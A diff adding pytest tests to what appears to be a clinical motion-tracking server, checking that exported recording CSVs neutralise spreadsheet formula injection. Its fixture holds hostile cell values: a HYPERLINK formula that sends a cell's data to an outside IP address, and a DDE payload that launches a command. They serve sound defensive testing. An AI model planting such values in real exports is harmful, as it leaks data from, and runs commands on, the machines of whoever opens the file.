@@ -242,8 +242,98 @@ def test_csv_cells_for_spreadsheets_start_no_formula(srv, hostile):
 
 
 def test_spreadsheet_text_neutralises_formulas_only():
-    from armtrack.server.reports.csv import spreadsheet_text
+    from armtrack.server.spreadsheet import spreadsheet_text
 
     assert spreadsheet_text("=HYPERLINK(\"http://x\")") == "'=HYPERLINK(\"http://x\")"
     assert spreadsheet_text("@SUM(A1)") == "'@SUM(A1)" and spreadsheet_text("+1") == "'+1"
     assert spreadsheet_text(-12.5) == -12.5 and spreadsheet_text("elbow") == "elbow"
+
+
+#: Header values a kit may send that a spreadsheet would split into a formula cell: after a
+#: comma (the CSV's separator), a semicolon (Excel's in many locales), a quote or spaces.
+SPLIT_FORMULAS = {"note": "fine,=HYPERLINK(\"http://198.51.100.7/?\"&A12,\"open\")",
+                  "clinic": "north; +cmd|' /C calc'!A0",
+                  "site": "a, \"-2+3\"",
+                  "offsets": "0.1, -0.2"}  # numbers stay numbers
+
+
+def formula_cells(text: str) -> list[str]:
+    """The cells of ``text`` a spreadsheet would take as formulas, read with a comma and
+    with a semicolon as the separator (numbers, e.g. -0.2, are not formulas)."""
+    import csv
+    import io
+
+    found = []
+    for delimiter in ",;":
+        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
+            for value in row:
+                bare = value.lstrip(" \"")
+                try:
+                    float(bare.strip(" \""))
+                    continue
+                except ValueError:
+                    if bare.startswith(("=", "+", "-", "@")):
+                        found.append(value)
+    return found
+
+
+def test_a_kits_header_text_starts_no_formula_cell_in_an_exported_recording(srv):
+    """recording.csv's header lines (``# key: value``) carried a kit's text as it came: a
+    spreadsheet splits the line at a comma (or a semicolon) and took the rest as a formula
+    — an uploaded header's value, or the device name of a streamed kit's hello."""
+    import contextlib
+    import json
+    import zipfile
+    from io import BytesIO
+
+    from armtrack.estimator.recording import format_recording, parse_recording
+    from armtrack.estimator.simulation import SimulationConfig, simulate
+    from websockets.sync.client import connect
+
+    api = srv.client("alice")
+    patient = api.patient(name="Cleo")
+    kit = api.device(patient["id"], name="home kit")
+    recording = simulate(SimulationConfig(exercise="elbow_flexion", seed=3,
+                                          repetitions=2)).recording
+    text = format_recording(dataclasses.replace(recording, metadata=SPLIT_FORMULAS)).decode()
+    assert formula_cells(text), "the upload itself must hold what is tested"
+    answer = httpx.post(srv.url + "/api/recordings", files={"file": ("kit.csv", text)},
+                        headers={"Authorization": f"Bearer {kit['token']}"}, timeout=60)
+    assert answer.status_code == 201, answer.text
+    uploaded = answer.json()["id"]
+
+    # a kit whose hello names it with a formula after a comma (the sync client: the browser
+    # fixture of this module keeps an event loop running in this thread)
+    with connect(srv.url.replace("http", "ws") + "/ws/ingest", proxy=None,
+                 additional_headers={"Authorization": f"Bearer {kit['token']}"}) as ws:
+        ws.send(json.dumps({"type": "hello", "protocol": 1, "device": "kit 7,=1+1",
+                            "side": "right", "sensors": ["forearm"], "rate_hz": 100,
+                            "nine_axis": False, "resume": None}))
+        assert json.loads(ws.recv(30))["type"] == "ready"
+        rows = [[i / 100, 0.0, 9.81, 0.0, 0.0, 0.0, 0.0, None, None, None] for i in range(200)]
+        ws.send(json.dumps({"type": "samples", "seq": 0, "sensor": "forearm", "rows": rows}))
+        while json.loads(ws.recv(30)).get("type") != "ack":
+            pass
+        ws.send(json.dumps({"type": "bye"}))
+        with contextlib.suppress(Exception):
+            ws.recv(10)
+    streamed = max(s["id"] for s in api.http.get(
+        f"/api/patients/{patient['id']}/sessions").json())
+    assert streamed != uploaded
+    exports = {}
+    for session_id in (uploaded, streamed):
+        answer = api.http.get(f"/api/sessions/{session_id}/recording.csv")
+        assert answer.status_code == 200, answer.text
+        exports[f"session {session_id}"] = answer.text
+    answer = api.http.get(f"/api/patients/{patient['id']}/export")
+    assert answer.status_code == 200, answer.text
+    with zipfile.ZipFile(BytesIO(answer.content)) as archive:
+        for name in archive.namelist():
+            if name.endswith("recording.csv"):
+                exports[name] = archive.read(name).decode()
+    for where, exported in exports.items():
+        header = [line for line in exported.splitlines() if line.startswith("#")]
+        print(where, header[-3:])
+        assert formula_cells(exported) == [], where
+        parse_recording(exported.encode())  # still a recording the estimator reads
+    assert "# offsets: 0.1, -0.2" in exports[f"session {uploaded}"]
